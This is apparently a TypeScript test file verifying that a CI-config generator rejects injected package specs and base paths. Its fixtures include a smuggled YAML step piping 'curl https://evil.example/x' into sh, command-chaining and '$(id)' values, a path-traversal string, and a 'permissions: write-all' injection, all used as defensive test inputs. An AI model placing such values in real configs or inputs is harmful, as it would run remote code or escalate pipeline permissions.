/**
 * The CI configs are written through the `yaml` library and from a checked package spec: a spec or base path
 * shaped to add a step (issue 26 item 8: a newline and `run: curl … | sh`) is refused, and no value can
 * become a key or a step of the job.
 */
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { basePathProblem, ciConfig, githubWorkflow, gitlabCi, packageSpecProblem } from '../../../../main/core/fleet/ci';

type Step = { name?: string; run?: string; uses?: string };
const steps = (text: string): Step[] => (parse(text) as { jobs: { lint: { steps: Step[] } } }).jobs.lint.steps;

const INJECTION = 'sitekit@0.1.0\n      - name: pwn\n        run: curl https://evil.example/x | sh';

describe('package specs', () => {
  it('accepts name@version, scoped names, tarball paths and https URLs', () => {
    for (const ok of ['sitekit', 'sitekit@0.1.0', 'sitekit@^0.1.0', '@acme/sitekit@1.2.3', './sitekit-0.1.0.tgz', 'dist/sitekit-0.1.0.tgz', '/opt/pkgs/sitekit-0.1.0.tar.gz', 'https://example.invalid/sitekit-0.1.0.tgz'])
      expect(packageSpecProblem(ok), ok).toBeUndefined();
  });

  it('refuses newlines, spaces, shell characters and other URL schemes', () => {
    for (const bad of [INJECTION, 'sitekit@0.1.0 && curl x', 'sitekit@0.1.0;id', '$(id)', 'http://example.invalid/s.tgz', 'git+ssh://git@example.invalid/s.git', '', '../../../etc/passwd.tgz', 'sitekit@0.1.0\r'])
      expect(packageSpecProblem(bad), JSON.stringify(bad)).toBeDefined();
  });

  it('never writes a refused spec into a config, and a base path cannot add keys', () => {
    expect(() => githubWorkflow({ packageSpec: INJECTION })).toThrow(/package spec/);
    expect(() => gitlabCi({ packageSpec: INJECTION })).toThrow(/package spec/);
    expect(basePathProblem("sites/**'\n  workflow_dispatch:")).toBeDefined();
    expect(() => githubWorkflow({ packageSpec: 'sitekit@0.1.0', basePath: "sites'\npermissions: write-all\n#" })).toThrow(/base path/);
  });
});

describe('configs through the yaml library', () => {
  it('the GitHub workflow has exactly the four steps, the install one running the spec as one word', () => {
    const text = ciConfig('github', { packageSpec: 'https://example.invalid/sitekit-0.1.0.tgz', basePath: 'fleet/sites' }).content;
    const s = steps(text);
    expect(s.map((x) => x.uses ?? x.name)).toEqual(['actions/checkout@v4', 'actions/setup-node@v4', 'Install the Sitekit CLI (no Electron, no display needed)', 'sitekit lint']);
    expect(s[2]?.run).toBe('npm install --no-save --no-package-lock --no-audit --no-fund https://example.invalid/sitekit-0.1.0.tgz');
    expect((parse(text) as { on: { push: { paths: string[] } } }).on.push.paths).toEqual(['fleet/sites/**']);
    expect(text.startsWith('# Written by `sitekit fleet ci --github`.')).toBe(true);
  });

  it('the GitLab job keeps its script as one multi-line scalar', () => {
    const ci = parse(gitlabCi({ packageSpec: 'sitekit@0.1.0' })) as Record<string, { script?: string[]; before_script?: string[] }>;
    expect(Object.keys(ci)).toEqual(['stages', 'sitekit-lint']);
    expect(ci['sitekit-lint']?.before_script).toEqual(['npm install --no-save --no-package-lock --no-audit --no-fund sitekit@0.1.0']);
    expect(ci['sitekit-lint']?.script).toHaveLength(1);
    expect(ci['sitekit-lint']?.script?.[0]).toMatch(/^BASE_SHA="\$\{CI_MERGE_REQUEST_DIFF_BASE_SHA:-\$\{CI_COMMIT_BEFORE_SHA:-\}\}"\n# Sites this change touches/);
  });
});
